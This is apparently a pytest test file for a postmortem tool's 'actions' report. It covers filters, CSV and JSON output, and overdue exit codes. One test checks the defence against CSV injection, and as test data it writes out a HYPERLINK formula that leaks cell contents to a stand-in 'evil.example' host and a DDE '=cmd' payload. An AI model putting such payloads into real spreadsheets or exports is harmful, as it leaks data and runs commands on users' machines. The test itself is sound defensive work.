"""`postmortem actions`: every corrective action, filtered, as table, CSV or JSON."""

from __future__ import annotations

import csv
import io
import json

import pytest
from helpers import FINAL, Repo
from postmortem_kit.site.action_reports import spreadsheet_safe


@pytest.fixture
def actions_repo(repo: Repo) -> Repo:
    repo.write("postmortems/2025/AIPM-2025-001-refunds.md", FINAL)  # A1, A2: done
    open_text = (
        FINAL.replace("AIPM-2025-001", "AIPM-2025-002")
        .replace(
            "    due: 2025-02-28\n    status: done", "    due: 2025-02-28\n    status: in-progress"
        )
        .replace(
            "    due: 2025-03-31\n    status: done", "    due: 2026-06-30\n    status: planned"
        )
    )
    repo.write("postmortems/2025/AIPM-2025-002-open.md", open_text)
    return repo


def test_table_lists_every_action_by_due_date(actions_repo: Repo) -> None:
    run = actions_repo.run("actions", "--today", "2026-01-01")
    lines = run.out.splitlines()
    assert lines[0].split() == ["DUE", "STATUS", "OWNER", "POSTMORTEM", "ACTION", "DESCRIPTION"]
    assert lines[1].split()[:2] == ["2025-02-28", "done"]
    assert lines[2].split()[:4] == ["2025-02-28", "OVERDUE", "in-progress", "Assistant"]
    assert lines[-1] == "4 actions, 1 overdue."
    assert run.exit_code == 0


def test_filters(actions_repo: Repo) -> None:
    def ids(*args: str) -> list[tuple[str, str]]:
        out = actions_repo.run("actions", "--format", "json", "--today", "2026-01-01", *args).out
        return [(a["postmortem"], a["id"]) for a in json.loads(out)["actions"]]

    assert ids("--overdue") == [("AIPM-2025-002", "A1")]
    assert ids("--status", "planned", "--status", "in-progress") == [
        ("AIPM-2025-002", "A1"),
        ("AIPM-2025-002", "A2"),
    ]
    assert ids("--owner", "search INFRASTRUCTURE team") == [
        ("AIPM-2025-001", "A2"),
        ("AIPM-2025-002", "A2"),
    ]
    assert ids("--due-before", "2025-03-01") == [("AIPM-2025-001", "A1"), ("AIPM-2025-002", "A1")]


def test_csv_and_json_carry_the_same_records(actions_repo: Repo) -> None:
    rows = list(csv.DictReader(io.StringIO(actions_repo.run("actions", "--format", "csv").out)))
    document = json.loads(actions_repo.run("actions", "--format", "json").out)
    assert [r["id"] for r in rows] == [a["id"] for a in document["actions"]]
    assert rows[0]["path"] == "postmortems/2025/AIPM-2025-001-refunds.md"
    assert document["actions"][0]["addresses"] == [
        "model-design-evaluation",
        "governance-accountability-gaps",
    ]


def test_fail_on_overdue_for_a_scheduled_job(actions_repo: Repo) -> None:
    assert actions_repo.run("actions", "--fail-on-overdue", "--today", "2026-01-01").exit_code == 1
    assert actions_repo.run("actions", "--fail-on-overdue", "--today", "2025-01-01").exit_code == 0
    run = actions_repo.run("actions", "--overdue", "--owner", "nobody", "--fail-on-overdue")
    assert (run.exit_code, run.out) == (
        0,
        "DUE  STATUS  OWNER  POSTMORTEM  ACTION  DESCRIPTION\n0 actions, 0 overdue.\n",
    )


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_csv_cells_never_start_a_spreadsheet_formula(repo: Repo) -> None:
    """CSV injection (OWASP): author text that a spreadsheet would run gets a leading '."""
    for number, start in enumerate(FORMULA_STARTS, 1):
        description = f'{start}HYPERLINK("https://evil.example/?leak="&A1, "Details")'
        owner = f"{start}cmd|' /C calc'!A0"
        text = (
            FINAL.replace("AIPM-2025-001", f"AIPM-2025-00{number}")
            .replace(
                "description: Make the assistant decline policy questions unless it cites a "
                "retrieved policy page.",
                f"description: {json.dumps(description)}",
            )
            .replace("owner: Assistant platform team", f"owner: {json.dumps(owner)}")
        )
        repo.write(f"postmortems/2025/AIPM-2025-00{number}-x.md", text)
    run = repo.run("actions", "--format", "csv", "--today", "2026-01-01")
    rows = list(csv.DictReader(io.StringIO(run.out)))
    first_actions = [row for row in rows if row["id"] == "A1"]
    assert [(row["description"][:2], row["owner"][:2]) for row in first_actions] == [
        ("'" + start, "'" + start) for start in FORMULA_STARTS
    ]
    assert first_actions[0]["owner"] == "'=cmd|' /C calc'!A0"
    # what no author wrote, and text that starts harmlessly, are left as they are
    assert (rows[0]["postmortem"], rows[0]["due"], rows[0]["overdue"]) == (
        "AIPM-2025-001",
        "2025-02-28",
        "False",
    )
    assert rows[-1]["description"].startswith("Add a retrieval evaluation gate")


def test_spreadsheet_safe_leaves_values_that_are_not_text_alone() -> None:
    assert spreadsheet_safe("-5") == "'-5"
    assert spreadsheet_safe("a-5") == "a-5"
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(-0.5) == -0.5
    assert spreadsheet_safe(None) is None
    assert spreadsheet_safe("") == ""
